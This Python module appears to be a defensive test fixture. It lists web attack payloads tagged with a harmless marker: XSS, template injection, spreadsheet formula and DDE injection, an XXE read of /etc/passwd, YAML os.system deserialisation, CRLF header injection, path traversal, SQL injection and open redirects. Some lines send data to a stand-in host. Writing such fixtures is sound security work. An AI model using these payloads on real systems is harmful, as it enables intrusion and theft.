"""What hostile people type, as literal lists. What would run carries MARK, so that an answer shows it."""

from __future__ import annotations

from typing import Final

MARK: Final = "lk7x"  # a script of ours sets window.lk7x; a tag or attribute of ours has it in its name
RUN: Final = f"window.{MARK}=1"
EVALUATED: Final = f"1337{MARK}"  # what a template language would make of TEMPLATES
EVIL: Final = "lk7x-evil.example"

HTML: Final = (
    f"<script>{RUN}</script>",
    f"<ScRiPt {MARK}>{RUN}</sCrIpT>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<img src={MARK} onerror={RUN}>",
    f"<img/src/onerror={RUN}//{MARK}",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<object data=javascript:{RUN}>",
    f"<base href=//{EVIL}/>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}'>",
    f"<form action=//{EVIL}/><button>{MARK}",
    f"<math><mtext><table><mglyph><style><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src onerror={RUN}>'>",
    f"<{MARK}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\u003cscript\u003e{RUN}\u003c/script\u003e",
    f"<<b>script>{RUN}<</b>/script>",
)
ATTRIBUTES: Final = (
    f'" onmouseover="{RUN}" {MARK}="',
    f"' onmouseover='{RUN}' {MARK}='",
    f"` onmouseover=`{RUN}` {MARK}=`",
    f'"><svg onload={RUN}>',
    f"'><svg onload={RUN}>",
    f"{MARK} onmouseover={RUN} x=",
    f'" autofocus onfocus="{RUN}',
    f'" hx-get="//{EVIL}/" hx-trigger="load" {MARK}="',
    f"&quot; onmouseover=&quot;{RUN}",
)
ADDRESSES: Final = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"vbscript:{MARK}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:text/html;base64,{MARK}",
)
SVG: Final = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"</text><script>{RUN}</script><text>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe onload={RUN}></foreignObject></svg>",
    f"<!DOCTYPE x [<!ENTITY {MARK} SYSTEM 'file:///etc/passwd'>]><svg>&{MARK};</svg>",
)
STYLES: Final = (
    f"</style><style>*{{background:url(//{EVIL})}}",
    f"red;background:url(javascript:{RUN})",
    f"}}*{{color:red;--{MARK}:1",
    f"@import '//{EVIL}/{MARK}.css';",
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
)
SCRIPTS: Final = (
    f"';{RUN};//",
    f'";{RUN};//',
    f"`;{RUN};//",
    f"${{{RUN}}}",
    f"\\';{RUN};//",
    f"\u2028{RUN}\u2029",
    f"*/{RUN}/*",
    f"</script ><script >{RUN}</script >",
)
MARKDOWN: Final = (
    f"[a](javascript:{RUN})",
    f"[a](//{EVIL}/)",
    f'![a](x"onerror={RUN} {MARK}=")',
    f"<javascript:{RUN}>",
    f"[{MARK}]: javascript:{RUN}\n[a][{MARK}]",
    f"# {MARK}\n\n<script>{RUN}</script>",
    f"```\n</code><script>{RUN}</script>\n```",
    f"| {MARK} | <img src onerror={RUN}> |",
    f"![a](https://{EVIL}/{MARK}.png)",
)
TEMPLATES: Final = (
    f"{{{{7|add:1330}}}}{MARK}",
    f"{{{{7*191}}}}{MARK}",
    f"{{% widthratio 1337 1 1 %}}{MARK}",
    f"${{7*191}}{MARK}",
    f"#{{7*191}}{MARK}",
    f"<%= 7*191 %>{MARK}",
    f"{{0.__class__.__mro__}}{MARK}",
    f"%(secret)s%n%s{MARK}",
    f"{{{{ settings.SECRET_KEY }}}}{MARK}",
)
FORMULAS: Final = (
    f"=1+1+{MARK}",
    f"=cmd|' /C calc'!A0{MARK}",
    f'=HYPERLINK("https://{EVIL}/"&A1,"x")',
    f'=WEBSERVICE("https://{EVIL}/")',
    f"+1+{MARK}",
    f"-1-{MARK}",
    f"@SUM(1+1){MARK}",
    f"\t=1+1+{MARK}",
    f"\r=1+1+{MARK}",
    f"\n=1+1+{MARK}",
    f" =1+1+{MARK}",
    f"\u00a0=1+1+{MARK}",
    f"\ufeff=1+1+{MARK}",
    f"\uff1d1+1+{MARK}",
    f"\uff0b1+{MARK}",
    f'x","=1+1+{MARK}',
    f"x;=1+1+{MARK}",
    f'DDE("cmd";"/C calc";"{MARK}")',
    f"x\r\n=1+1+{MARK}",
)
ODD: Final = (
    f"\u202e{MARK}\u202c gnp.exe",
    f"\u2066{MARK}\u2069",
    f"\u200b{MARK}\u200d\ufeff",
    f"{MARK}\x00<script>{RUN}</script>",
    f"\ud83d\ude00{MARK}".encode("utf-16", "surrogatepass").decode("utf-16"),
    f"a\u0300\u0301\u0302\u0303\u0304{MARK}" * 3,
    f"\x1b[31m{MARK}\x07\x08",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u0130I\u0131i{MARK}\ufb03\u00df",
    f"\ufffe\uffff{MARK}",
    MARK * 3000,
    " ",
    "",
    "0",
    "-1",
    "99999999999999999999999",
    "NaN",
    "1e400",
    "٣",
)
HEADERS: Final = (
    f"{MARK}\r\nBcc: {MARK}@{EVIL}",
    f"{MARK}\nX-{MARK}: 1",
    f"{MARK}\r\rSet-Cookie: {MARK}=1",
    f"{MARK}%0d%0aSet-Cookie:%20{MARK}=1",
    f"{MARK}\r\n\r\n<script>{RUN}</script>",
    f'{MARK}"; filename="x.html',
    f"{MARK}\u560d\u560aSet-Cookie: {MARK}=1",
    f"{MARK}@{EVIL}\r\nTo: x@{EVIL}",
    f"=?utf-8?q?{MARK}=0d=0aBcc:x?=",
)
PATHS: Final = (
    f"../../../../etc/{MARK}",
    f"..\\..\\{MARK}",
    f"/etc/{MARK}",
    f"C:\\{MARK}",
    f"{MARK}/../../x",
    f"%2e%2e%2f{MARK}",
    f"..%c0%af{MARK}",
    f"{MARK}\x00.csv",
    "CON",
    "..",
    ".",
    f"~/{MARK}",
    f"file:///etc/{MARK}",
)
STRUCTURES: Final = (
    f'{{"{MARK}": [1, 2',
    f'"}},{{"{MARK}":1}}',
    f"!!python/object/apply:os.system ['{MARK}']",
    f"&a [*a, {MARK}]",
    f"{MARK}: |\n  x\n- y",
    "null",
    "[]",
    "{}",
    "true",
    f"__proto__{MARK}",
    f"%TAG ! tag:{MARK}",
)
DATABASE: Final = (
    f"' OR '1'='1{MARK}",
    f'"; DROP TABLE {MARK};--',
    f"%_\\{MARK}",
    f"{MARK}__icontains",
)
FIELDS: Final = (
    HTML + ATTRIBUTES + ADDRESSES + SVG + STYLES + SCRIPTS + MARKDOWN + TEMPLATES + FORMULAS + ODD + HEADERS + PATHS
    + STRUCTURES + DATABASE
)  # fmt: skip

AWAY: Final = (
    f"https://{EVIL}/",
    f"//{EVIL}/",
    f"///{EVIL}/",
    f"////{EVIL}",
    f"/\\{EVIL}/",
    f"\\\\{EVIL}/",
    f"https:{EVIL}",
    f"https:/{EVIL}",
    f"https:///{EVIL}",
    f"http://testserver@{EVIL}/",
    f"http://testserver.{EVIL}/",
    f"http://{EVIL}#testserver",
    f"http://{EVIL}\\@testserver/",
    f"/\t/{EVIL}/",
    f"\t//{EVIL}/",
    f" //{EVIL}/",
    f"/\r\n/{EVIL}/",
    f"\x00//{EVIL}/",
    f"/%2f{EVIL}/",
    f"/..//{EVIL}/",
    f"ftp://{EVIL}/",
    f"javascript:{RUN}",
    f"data:text/html,{MARK}",
    f"http://{EVIL}:80/",
    f"http://[::1]@{EVIL}/",
    "//\uff4c\uff4b7x-evil.example/",
    f"/a/\r\nLocation: https://{EVIL}/",
)
WAYS: Final = ("next", "return_to", "redirect", "redirect_to", "url", "back", "continue", "to", "process", "callback")
PLANTED: Final = tuple(
    one for one in FIELDS if MARK in one and len(one) < 400 and "\x00" not in one
)  # what a database keeps
